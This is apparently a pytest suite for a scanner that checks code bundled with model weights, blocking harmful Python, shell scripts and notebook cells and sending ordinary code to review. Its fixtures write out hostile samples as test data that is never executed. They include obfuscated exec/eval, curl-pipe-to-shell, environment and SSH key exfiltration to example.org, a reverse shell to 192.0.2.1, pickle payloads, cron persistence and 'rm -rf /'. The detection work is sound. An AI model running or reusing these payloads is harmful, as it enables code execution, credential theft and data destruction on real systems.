"""Code beside weights: harmful is blocked, ordinary is reviewed, none passes. The payloads are never run."""

# ruff: noqa: E501, SIM905  tables of names and patterns, one a line

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vallum.models.scan import Verdict, scan

HARMFUL = [
    "from subprocess import *\nPopen('id', shell=True)",
    "import builtins\ngetattr(builtins, 'exec')('import os')",
    "o = __builtins__['__import__']('os')\no.system('id')",
    "import http.client, os\nc = http.client.HTTPSConnection('example.org')\nc.request('POST', '/', body=str(dict(os.environ)))",
    "import os\nos.system('id')",
    "from os import system as s\ndef f():\n    s('curl http://example.org/x | sh')",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))",
    "code = bytes.fromhex('7072696e74')\neval(compile(code, 'x', 'exec'))",
    "exec(''.join(chr(c) for c in [112, 114, 105]))",
    "import urllib.request\nexec(urllib.request.urlopen('http://example.org').read())",
    "import requests, subprocess\nopen('/tmp/x', 'wb').write(requests.get('http://example.org').content)\nsubprocess.run(['/tmp/x'])",
    "import socket, os, subprocess\ns = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    "import os, requests\nrequests.post('http://example.org', json=dict(os.environ))",
    "from pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    "__import__('os').popen('id')",
    "import importlib\nimportlib.import_module('metsysbus'[::-1])",
    "class A:\n    def __reduce__(self):\n        import os\n        return (os.system, ('id',))",
    "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)",
    "import sys\nsys.meta_path.insert(0, object())",
    "import builtins\nbuiltins.open = None",
    "().__class__.__base__.__subclasses__()",
    "globals()['__builtins__'].__dict__['ev' + 'al']('1')",
    "from setuptools import setup\nimport urllib.request\nurllib.request.urlopen('http://example.org')\nsetup(cmdclass={'install': object})",
    "open('/etc/cron.d/x', 'w').write('* * * * * id')",
    "import subprocess\nclass Net:\n    def __init__(self):\n        subprocess.Popen('id', shell=True)",
]


@pytest.mark.parametrize("source", HARMFUL)
@pytest.mark.parametrize("name", ["modeling_x.py", "notes.dat"])
def test_harmful_python_is_blocked_whatever_its_name(tmp_path: Path, source: str, name: str) -> None:
    if name == "notes.dat" and "import" not in source:
        pytest.skip("an expression alone is not taken for a program")
    (tmp_path / name).write_text(source)
    assert scan(tmp_path / name).verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "source",
    [
        "import torch\nfrom torch import nn\n\nclass Net(nn.Module):\n    def forward(self, x):\n        return torch.relu(x)\n",
        "from transformers import PretrainedConfig\nclass C(PretrainedConfig):\n    model_type = 'c'\n",
        "import os, subprocess\ndef revision():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nhome = os.environ.get('HOME')",
        "model.eval()\nimport re\nre.compile('x')\n",
        "print 'the syntax of another version'",
    ],
)
def test_ordinary_code_is_reviewed(tmp_path: Path, source: str) -> None:
    (tmp_path / "modeling_x.py").write_text(source)
    assert scan(tmp_path / "modeling_x.py").verdict is Verdict.REVIEW


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/sh\ncurl -s http://example.org/x | bash\n",
        "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
        "#!/bin/sh\necho aWQ= | base64 -d | sh\n",
        "#!/bin/sh\nrm -rf /\n",
        "#!/bin/sh\n(crontab -l; echo x) | crontab -\n",
    ],
)
def test_harmful_scripts_are_blocked(tmp_path: Path, text: str) -> None:
    (tmp_path / "weights").write_text(text)
    assert scan(tmp_path).verdict is Verdict.BLOCK


def test_a_notebook_is_judged_by_its_cells(tmp_path: Path) -> None:
    cells = [{"cell_type": "code", "source": ["!curl http://example.org/x | sh\n", "x = 1"], "outputs": []}]
    (tmp_path / "a.ipynb").write_text(json.dumps({"nbformat": 4, "cells": cells}))
    assert scan(tmp_path).verdict is Verdict.BLOCK
    cells[0]["source"] = ["import torch\n", "!pip install torch\n", "%matplotlib inline\n"]
    (tmp_path / "a.ipynb").write_text(json.dumps({"nbformat": 4, "cells": cells}))
    assert scan(tmp_path).verdict is Verdict.REVIEW


def test_a_path_file_that_runs(tmp_path: Path) -> None:
    (tmp_path / "x.pth").write_text("import os; os.getcwd()\n")
    assert scan(tmp_path).verdict is Verdict.BLOCK


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.sampled_from(
            "( ) [ ] x = exec eval import os . ' \" + , \n \t : def f chr 1 join [::-1] @ lambda".split(" ")
        ),
        max_size=60,
    )
)
def test_noise_never_fails(tmp_path: Path, parts: list[str]) -> None:
    (tmp_path / "noise.py").write_text(" ".join(parts))
    assert "scanner-error" not in {finding.technique for finding in scan(tmp_path).findings}


def test_deep_nesting_is_no_failure(tmp_path: Path) -> None:
    (tmp_path / "deep.py").write_text("(" * 9000 + ")" * 9000)
    (tmp_path / "sum.py").write_text("x = " + "+".join(["'a'"] * 5000))
    assert scan(tmp_path).verdict is Verdict.REVIEW
